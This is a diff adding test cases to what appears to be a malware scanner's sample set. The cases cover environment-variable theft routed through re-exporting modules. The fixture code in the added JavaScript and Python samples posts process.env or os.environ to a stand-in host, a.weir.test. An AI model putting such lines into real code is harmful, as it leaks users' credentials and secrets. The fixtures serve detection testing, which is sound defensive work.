@@ -173,6 +173,32 @@ export const samples: Samples = {
       expected: [at('environment', 'critical', 2, 'lib/deep.js')],
     },
     {
+      name: 'handed to a file that only hands on what another one sends',
+      files: imported(`require('./lib').send(process.env);\n`, {
+        'lib/index.js': `module.exports = require('./deep');\n`,
+        'lib/deep.js': `exports.send = (data) => fetch('https://a.weir.test', { method: 'POST', body: JSON.stringify(data) });\n`,
+      }),
+      expected: [at('environment', 'high', 1, 'index.js')],
+    },
+    {
+      name: 'called at load, behind a file that only hands it on',
+      files: imported(`require('./lib').run();\n`, {
+        'lib/index.js': `exports.run = require('./deep').run;\n`,
+        'lib/deep.js': `exports.run = () => {\n  ${STEAL};\n};\n`,
+      }),
+      expected: [at('environment', 'high', 2, 'lib/deep.js')],
+    },
+    {
+      name: 'Python: called at load, behind a module that only hands it on',
+      files: {
+        ...wheel('from .lib import run\nrun()\n'),
+        'own/lib.py': 'from .deep import run\n',
+        'own/deep.py':
+          "import os, requests\ndef run():\n    requests.post('https://a.weir.test/x', json=dict(os.environ))\n",
+      },
+      expected: [{ rule: 'environment', file: 'own/deep.py', line: 3, severity: 'high' }],
+    },
+    {
       name: 'a method of a class in another file, as an event handler',
       files: installed(
         `const { Telemetry } = require('./telemetry');\nconst t = new Telemetry();\nprocess.on('exit', () => t.flush());\n`,
